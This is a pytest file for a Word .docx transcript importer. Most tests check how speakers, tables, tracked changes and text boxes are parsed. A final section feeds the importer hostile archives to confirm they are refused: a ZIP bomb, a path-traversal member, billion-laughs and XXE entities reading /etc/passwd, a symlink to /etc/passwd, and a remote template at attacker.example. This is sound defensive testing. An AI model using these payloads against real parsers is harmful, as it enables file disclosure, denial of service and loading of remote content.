"""Word import: tables, tracked changes, bold speakers, text boxes, hostile archives."""

from __future__ import annotations

import io
import zipfile

import pytest

from qcode.core.errors import ImportFormatError
from qcode.formats.importers.base import ImportOptions
from qcode.formats.importers.docx import DocxImporter
from tests.formats.fixtures import docx_bytes, p, table, zip_bomb_docx


def read(data: bytes, **opts):
    return DocxImporter().read(data, "t.docx", ImportOptions(**opts))


def spoken(t):
    return [(tr.speaker, t.text[tr.start:tr.end]) for tr in t.turns]


def test_two_column_table_is_speaker_and_text() -> None:
    body = p("Entretien 4") + table([["Locuteur", "Texte"], ["Enquêtrice", "Vous êtes payé comment ?"],
                                     ["Hery", "À la tâche."], ["", "Et mal."], ["Enquêtrice", "Merci."]])
    body += p("Fin.")
    t = read(docx_bytes(body))
    assert spoken(t) == [(None, "Entretien 4"), ("Enquêtrice", "Vous êtes payé comment ?"),
                         ("Hery", "À la tâche.\nEt mal."), ("Enquêtrice", "Merci."), (None, "Fin.")]


def test_time_speaker_text_table() -> None:
    body = table([["00:00:05", "Grace", "Hello"], ["00:01:00", "Interviewer", "Hi"], ["00:01:30", "Grace", "Bye"]])
    t = read(docx_bytes(body))
    assert spoken(t) == [("Grace", "Hello"), ("Interviewer", "Hi"), ("Grace", "Bye")]
    assert [tr.time_start for tr in t.turns] == [5.0, 60.0, 90.0]


def test_tracked_insertion_kept_and_deletion_dropped() -> None:
    body = (
        '<w:p><w:r><w:t xml:space="preserve">Amina: We earn </w:t></w:r>'
        '<w:ins w:id="1" w:author="x"><w:r><w:t>nine euros</w:t></w:r></w:ins>'
        '<w:del w:id="2" w:author="x"><w:r><w:delText>ten dollars</w:delText></w:r></w:del>'
        '<w:r><w:t xml:space="preserve"> an hour.</w:t></w:r></w:p>'
    ) + p("Interviewer: Thanks.")
    t = read(docx_bytes(body))
    assert spoken(t) == [("Amina", "We earn nine euros an hour."), ("Interviewer", "Thanks.")]
    assert any("tracked changes" in w for w in t.warnings)


def test_bold_speaker_runs() -> None:
    body = p(" Your pay?", bold_prefix="Interviewer:") + p("Piece rates.", bold_prefix="Sara ") + p("Very low.")
    body = body.replace("<w:t xml:space=\"preserve\">Piece rates.", "<w:t xml:space=\"preserve\">: Piece rates.")
    t = read(docx_bytes(body))
    assert spoken(t) == [("Interviewer", "Your pay?"), ("Sara", "Piece rates.\nVery low.")]


def test_text_box_content_control_and_line_breaks_kept_once() -> None:
    box = ('<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><w:txbxContent>'
           f'{p("Boxed text")}</w:txbxContent></w:drawing></mc:Choice>'
           f'<mc:Fallback><w:pict><w:txbxContent>{p("Boxed text")}</w:txbxContent></w:pict></mc:Fallback>'
           '</mc:AlternateContent></w:r>')
    body = (f"<w:p><w:r><w:t>Intro</w:t></w:r>{box}</w:p>"
            f"<w:sdt><w:sdtContent>{p('In a control')}</w:sdtContent></w:sdt>"
            '<w:p><w:r><w:t>one</w:t><w:br/><w:t>two</w:t><w:tab/><w:t>three</w:t></w:r></w:p>')
    t = read(docx_bytes(body))
    assert t.text.count("Boxed text") == 1
    assert "In a control" in t.text and "one\ntwo\tthree" in t.text


def test_demo_docx_imports(tmp_path) -> None:
    from tests.formats.make_demo_docx import TURNS, build

    out = tmp_path / "demo.docx"
    build(out)
    t = read(out.read_bytes())
    got = [(s, x) for s, x in spoken(t) if s]
    assert got == [(s, x) for s, x in TURNS]


def test_python_docx_would_lose_table_text_we_do_not() -> None:
    from docx import Document

    data = docx_bytes(table([["Interviewer", "Question one"], ["Amina", "Answer one"]]))
    assert "Answer one" not in "\n".join(par.text for par in Document(io.BytesIO(data)).paragraphs)
    assert "Answer one" in read(data).text


# --- hostile -----------------------------------------------------------------
def test_not_a_zip() -> None:
    with pytest.raises(ImportFormatError, match="not a valid Word .docx"):
        read(b"Interviewer: this is really text\n")


def test_zip_bomb_refused_before_reading() -> None:
    with pytest.raises(ImportFormatError, match="ZIP bomb"):
        read(zip_bomb_docx(64 * 1024 * 1024))


def test_path_traversal_member_refused() -> None:
    data = docx_bytes(p("x"), extra={"../../escape.txt": "owned"})
    with pytest.raises(ImportFormatError, match="unsafe path"):
        read(data)


def test_billion_laughs_and_xxe_refused() -> None:
    laughs = '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    with pytest.raises(ImportFormatError, match="entities"):
        read(docx_bytes(p("&b;"), prolog=laughs))
    xxe = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    with pytest.raises(ImportFormatError, match="entities"):
        read(docx_bytes(p("&x;"), prolog=xxe))


def test_external_references_ignored_with_warning() -> None:
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
            '<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="https://example.org" TargetMode="External"/></Relationships>')
    t = read(docx_bytes(p("I: hello") + p("R: hi"), extra={"word/_rels/document.xml.rels": rels}))
    assert t.text == "hello\n\nhi"
    assert any("1 external files" in w for w in t.warnings)


def test_symlink_member_refused() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("word/document.xml")
        info.external_attr = 0o120777 << 16
        zf.writestr(info, "/etc/passwd")
    with pytest.raises(ImportFormatError, match="link"):
        read(buf.getvalue())


def test_truncated_zip() -> None:
    data = docx_bytes(p("hello"))
    with pytest.raises(ImportFormatError, match="not a valid Word .docx|cannot be read"):
        read(data[: len(data) // 2])


@pytest.mark.parametrize("header", [[], [["Speaker", "Role"]]])
def test_speaker_table_then_name_colon_paragraphs(header: list) -> None:
    body = table(header + [["Amina Kamau", "participant, 34"], ["Jo", "interviewer"]])
    body += p("Jo: And the pay?") + p("Amina Kamau: Low, very low.") + p("It varies.")
    t = read(docx_bytes(body))
    assert spoken(t) == [("Jo", "And the pay?"), ("Amina Kamau", "Low, very low.\nIt varies.")]
    assert [(n.kind, n.text, n.offset) for n in t.notes] == [
        ("metadata", "speakers: Amina Kamau (participant, 34); Jo (interviewer)", 0)]


def test_transcript_table_continued_in_paragraphs_keeps_the_speakers() -> None:
    body = table([["Interviewer", "How long?"], ["Amina", "Two years."], ["Interviewer", "And?"]])
    t = read(docx_bytes(body + p("Amina: Low, very low.")))
    assert spoken(t)[-1] == ("Amina", "Low, very low.")
